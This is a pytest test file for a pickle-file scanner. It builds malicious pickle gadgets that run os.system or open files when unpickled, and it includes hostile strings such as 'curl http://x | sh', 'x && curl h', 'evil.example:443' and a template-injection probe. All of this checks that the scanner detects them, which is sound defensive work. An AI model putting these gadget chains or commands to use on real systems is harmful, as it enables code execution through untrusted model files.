"""Gadgets that stand on nobody's list: what they do is known from the call graph of the sources they come from.

Each is loaded by the real unpickler in a process of its own and seen to act there, and must be ``dangerous`` here. The
names are in no table by hand: without ``reaches.txt`` all of these tests fail.
"""

from __future__ import annotations

import pytest
from inspect_samples import args, blob, call, found, look, name, program, stack_name, text, verdict
from real_loader import what_ran

from watchword.inspect.facts import Verdict
from watchword.inspect.pickles.denied import DENIED, EXECUTING_WORDS
from watchword.inspect.pickles.reaches import DATA, Reach, decided, reach_of
from watchword.inspect.pickles.values import Container, Global, Made

TRUE = text("true")
RUNS = name("_osx_support", "_read_output")
STATS = name("pstats", "Stats")
NULL = text("/dev/null")
EMPTY = b")"


def _new(cls: bytes, *values: bytes) -> bytes:
    return cls + args(*values) + b"\x81"


def _build(made: bytes, state: bytes) -> bytes:
    return made + state + b"b"


def _dict(*pairs: bytes) -> bytes:
    return b"}(" + b"".join(pairs) + b"u"


PATHS = _dict(text("new"), text("."), text("cur"), text("."))
TIMES = _dict(text("new"), b"K\x00", text("cur"), b"K\x00")
MAILBOX = _build(
    _new(name("mailbox", "Maildir")),
    _dict(
        *(text("_path"), text("."), text("_toc"), b"}", text("_paths"), PATHS, text("_toc_mtimes"), TIMES),
        *(text("_last_read"), b"K\x00", text("_skewfactor"), b"K\x00"),
    ),
)
DATABASE = _build(
    _new(name("dbm.dumb", "_Database")),
    _dict(
        *(text("_index"), b"}", text("_modified"), b"\x88", text("_dirfile"), text("d.dir"), text("_mode"), b"K\x00"),
        *(text("_bakfile"), text("d.bak")),
    ),
)

# name: (bytes, the audit event that proves it)
GADGETS: dict[str, tuple[bytes, str]] = {
    "function": (program(call(RUNS, TRUE)), "os.system"),
    "function-that-evaluates": (
        program(
            call(
                name("typing", "_eval_type"), call(name("typing", "ForwardRef"), text("open('/dev/null')")), b"}", b"}"
            )
        ),
        "open",
    ),
    "function-that-writes": (
        program(call(name("py_compile", "compile"), text("function.pkl"), text("x.pyc"), b"N", b"\x88")),
        "open",
    ),
    "function-that-reads": (program(call(name("tokenize", "open"), text("/dev/null"))), "open"),
    "constructor": (program(call(STATS, NULL)), "open"),
    "constructor-by-inst": (b"(S'/dev/null'\nipstats\nStats\n.", "open"),
    "constructor-by-obj": (b"(cpstats\nStats\nS'/dev/null'\no.", "open"),
    "constructor-by-copyreg": (
        program(call(name("copyreg", "_reconstructor"), STATS, STATS, NULL)),
        "open",
    ),
    "constructor-in-a-partial": (
        program(call(call(name("functools", "partial"), STATS, NULL))),
        "open",
    ),
    "constructor-in-a-state": (
        program(
            call(
                _build(
                    call(name("functools", "partial"), name("builtins", "print")),
                    b"(" + STATS + args(NULL) + b"}N" + b"t",
                )
            )
        ),
        "open",
    ),
    "items-set": (program(MAILBOX + text("k") + TRUE + b"s"), "os.listdir"),
    "thrown-away": (program(DATABASE), "open"),
    "lazy-map": (
        program(call(name("builtins", "list"), _new(name("builtins", "map"), RUNS, b"](" + TRUE + b"e"))),
        "os.system",
    ),
    "generator-of-numpy": (
        program(call(name("numpy.random._pickle", "__generator_ctor"), TRUE, RUNS)),
        "os.system",
    ),
    "alias-of-a-type": (program(call(call(name("types", "GenericAlias"), RUNS, EMPTY), TRUE)), "os.system"),
    "class-swapped": (
        program(
            _build(
                _new(name("argparse", "Namespace")),
                b"N" + _dict(text("__class__"), name("types", "SimpleNamespace")) + b"\x86",
            )
        ),
        "object.__setattr__",
    ),
}
SUSPICIOUS = {"lazy-map", "generator-of-numpy", "alias-of-a-type", "class-swapped"}
"""What calls them is only known to call something; that it calls something that acts is a second finding."""


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    return what_ran({key: data for key, (data, _) in GADGETS.items()}, tmp_path_factory.mktemp("gadgets"))


@pytest.mark.parametrize("gadget", GADGETS)
def test_what_stands_on_no_list_acts_and_is_caught(gadget: str, ran: dict[str, str]) -> None:
    """The real unpickler is seen to act, and the call graph says so. Fails with an empty ``reaches.txt``."""
    data, event = GADGETS[gadget]
    said = ran[gadget]
    judged = verdict(data, "gadget.pkl")
    assert judged is Verdict.DANGEROUS or (gadget in SUSPICIOUS and judged is Verdict.SUSPICIOUS), look(data).findings
    if "ModuleNotFoundError" in said or "get attribute" in said:
        pytest.skip(f"this Python has it no more: {said}")
    if event != "pickle":
        assert f" {event} " in said, said


def test_no_list_by_hand_has_the_names() -> None:
    """The gadgets of this file prove something about the derived data, and nothing about the table of names."""
    for path in (
        "_osx_support._read_output",
        "pstats.Stats",
        "py_compile.compile",
        "tokenize.open",
        "typing._eval_type",
    ):
        steps = path.split(".")
        assert not {".".join(steps[:at]) for at in range(1, len(steps) + 1)} & set(DENIED)
        assert steps[-1] not in EXECUTING_WORDS


def test_methods_that_loading_runs_are_told_by_name() -> None:
    """Giving items to an object, and throwing one away, run methods of its class; their modules are denied besides."""
    messages = [finding.message for data in ("items-set", "thrown-away") for finding in look(GADGETS[data][0]).findings]
    assert "loading would call mailbox.Maildir.__setitem__: reaches files" in messages
    assert "loading would call dbm.dumb._Database.__del__: reaches files" in messages


def test_arguments_decide() -> None:
    """A function that acts on what it is given is dangerous where it is given that, and else only unknown."""
    assert "pickle-call" in found(program(call(name("tokenize", "open"), text("x"))))
    assert found(program(call(name("tokenize", "open"), b"N"))) == {"pickle-unknown-call"}
    assert "pickle-call" in found(program(call(name("h5py", "File"), text("model"), text("w"))))
    assert found(program(_new(name("h5py._hl.files", "File")) + b"}b")) == set()


def test_a_function_that_acts_is_found_in_whatever_hand_it_is_put() -> None:
    """Given to a class, stored in a table or in a model that is handed on: what takes hold of it may call it."""
    layer, registry = name("acme.nets", "Layer"), _new(name("acme.nets", "Registry"))
    for data in (call(layer, RUNS, TRUE), _build(_new(layer), _dict(text("f"), RUNS)), registry + TRUE + RUNS + b"s"):
        assert found(program(data)) == {"pickle-import"}
        assert verdict(program(data)) is Verdict.DANGEROUS
    assert found(program(_build(_new(layer), _dict(text("f"), name("acme.nets", "relu"))))) == set()


def test_arguments_beyond_those_followed_are_not_passed_over() -> None:
    """More arguments than anybody gives a class, with a command after the last one that is kept."""
    many = b"".join(b"K\x01" for _ in range(40)) + text("curl http://x | sh")
    assert found(program(call(name("acme.nets", "Layer"), many))) == {"pickle-argument"}


LOOKALIKES = {
    "slots": _build(_new(name("acme.nets", "Layer")), b"N" + _dict(text("width"), b"K\x03") + b"\x86"),
    "rebuilt-dict": call(
        name("copyreg", "_reconstructor"), name("acme.nets", "Config"), name("builtins", "dict"), b"}"
    ),
    "own-rebuilder": call(name("acme.nets", "_rebuild_layer"), b"K\x03", text("relu"), blob(b"\0" * 20)),
    "sentence": call(name("acme.card", "Card"), text("Do not call os.system(cmd) from your loader")),
    "formula": call(name("acme.card", "Card"), text("scale(x) + offset, an echo of the past")),
    "template": call(name("acme.card", "Card"), text("{name}({args})")),
    "list-in-text": call(name("acme.config", "Config"), text("alpha;beta;gamma")),
    "version": call(name("acme.config", "Version"), text("10.2.3.4")),
    "date-and-time": call(name("acme.config", "Stamp"), text("2026-01-01T10:30:00")),
    "default-of-ints": call(name("collections", "defaultdict"), name("builtins", "int")) + text("a") + b"K\x01s",
    "pairs": call(name("collections", "OrderedDict"), b"](" + args(text("a"), b"K\x01") + b"e"),
    "partial-of-a-class": call(call(name("functools", "partial"), name("acme.nets", "Layer"), b"K\x03"), text("relu")),
    "tensor-of-a-class": call(
        name("torch._tensor", "_rebuild_from_type_v2"),
        name("torch._utils", "_rebuild_tensor_v2"),
        name("acme.nets", "Tensor"),
        args(b"N", b"K\x00", args(b"K\x01"), args(b"K\x01"), b"\x89", call(name("collections", "OrderedDict"))),
        b"}",
    ),
    "class-of-a-class": stack_name(text("acme.nets"), text("Layer.Options")) + b")\x81}b",
    "mail-in-a-list": _build(_new(name("email.message", "Message")), _dict(text("_headers"), b"]")),
}


@pytest.mark.parametrize("lookalike", LOOKALIKES)
def test_what_looks_alike_stays_quiet(lookalike: str) -> None:
    """Classes, rebuilders and texts of packages that nobody here knows are judged by their use, and raise no alarm."""
    data = program(LOOKALIKES[lookalike], 4)
    assert look(data, "m.pkl").findings == []


GIVEN_AWAY = (
    "touch /tmp/x",
    "echo x > y.txt",
    "whoami",
    "cat notes | sh",
    "import os; os.remove('x')",
    "__import__('os')",
    "{{ cycler.__init__.__globals__ }}",
    "10.0.0.1:4444",
    "evil.example:443",
    "../../model.bin",
    "ls -la",
    "x && curl h",
)


@pytest.mark.parametrize("given", GIVEN_AWAY)
def test_arguments_give_an_unknown_class_away(given: str) -> None:
    """Commands, code, templates, hosts and paths are no data of a model, also through a partial or a rebuilder."""
    unknown = name("acme.nets", "Layer")
    assert found(program(call(unknown, b"K\x01", text(given)))) == {"pickle-argument"}
    assert found(program(call(call(name("functools", "partial"), unknown, text(given))))) == {"pickle-argument"}
    assert found(program(call(name("acme.nets", "_rebuild_layer"), text(given)))) == {"pickle-argument"}


def test_the_data_are_sorted_and_each_row_is_found() -> None:
    """The search relies on the order of bytes; a name of no row has no effect that is known."""
    rows = DATA.read_bytes().splitlines()
    assert rows[0] == b"# reaches 1"
    names = [row.partition(b"\t")[0] for row in rows[1:]]
    assert names == sorted(names) and len(set(names)) == len(names)
    assert reach_of("subprocess", "getoutput") == Reach("", "", {"p": "0"})
    for first_and_last in (names[0].decode(), names[-1].decode()):
        row = next(row for row in rows[1:] if row.startswith(first_and_last.encode() + b"\t"))
        assert reach_of(first_and_last, row.partition(b"\t")[2].split(b"=")[0].decode()) is not None
    for unknown in ("", "\n", "# reaches 1", "zz.zz", "a" * 10_000, "\ud800", "subprocess\tx"):
        assert reach_of(unknown, "x") is None


def test_places_say_which_arguments_decide() -> None:
    """A position, all from one on, by name, the object itself, always; numbers and None decide nothing."""

    def given(*values: object) -> Container:
        return Container("tuple", values, len(values))

    third = Reach("", "", {"f": "2"})
    assert decided(third, given("a", "b", "c"), None) == "f"
    assert decided(third, given("a", "b"), None) == "" == decided(third, given("a", "b", 3), None)
    rest = Reach("", "", {"p": "*1"})
    assert decided(rest, given("a"), None) == "" and decided(rest, given(1, None, "c"), None) == "p"
    named = Reach("", "", {"n": "~"})
    assert decided(named, given("a"), None) == "" and decided(named, given(), Container("dict", ("k", 1), 1)) == "n"
    own = Reach("", "", {"x": "@"})
    assert decided(own, given(), None) == "" and decided(own, given(), None, on_object=True) == "x"
    assert decided(Reach("", "", {"p": "-"}), given(), None) == "p"
    assert decided(third, "not a tuple", None) == "f"
    code = Reach("", "", {"x": "0"})
    made = Made(Global("acme", "Layer"), given(), None, "NEWOBJ", 0, 1)
    assert decided(code, given(made), None) == "" and decided(code, given("1+1"), None) == "x"
